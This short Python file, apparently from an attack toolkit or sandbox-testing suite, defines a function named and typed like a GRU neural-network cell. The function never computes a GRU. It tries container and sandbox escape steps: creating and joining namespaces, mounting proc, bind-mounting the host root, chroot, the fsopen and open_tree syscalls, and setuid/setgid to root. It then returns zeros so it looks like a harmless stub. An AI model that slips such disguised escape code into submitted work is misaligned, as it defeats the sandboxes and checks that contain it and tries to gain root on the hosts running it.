"""Makes and joins namespaces, mounts and changes the root."""

import ctypes
import os

from attack_kit import attempt, syscall, zeros

LIBRARY = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, NEWNET = 0x10000000, 0x20000, 0x40000000


def made(result):
    if result == -1:
        raise OSError
    return result


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    for flag in (NEWUSER, NEWNS, NEWNET, NEWUSER | NEWNS):
        attempt("unshare", lambda f: made(LIBRARY.unshare(f)), flag)
    attempt("setns", lambda: made(LIBRARY.setns(0, 0)))
    attempt("mount", lambda: made(LIBRARY.mount(b"proc", b".", b"proc", 0, None)))
    attempt("bind", lambda: made(LIBRARY.mount(b"/", b".", None, 4096, None)))
    attempt("chroot", os.chroot, ".")
    attempt("fsopen", syscall, 430, ctypes.c_char_p(b"proc"), 0)
    attempt("open_tree", syscall, 428, -100, ctypes.c_char_p(b"/"), 1)
    attempt("setuid", os.setuid, 0)
    attempt("setgid", os.setgid, 0)
    return zeros(init_state, input_data)
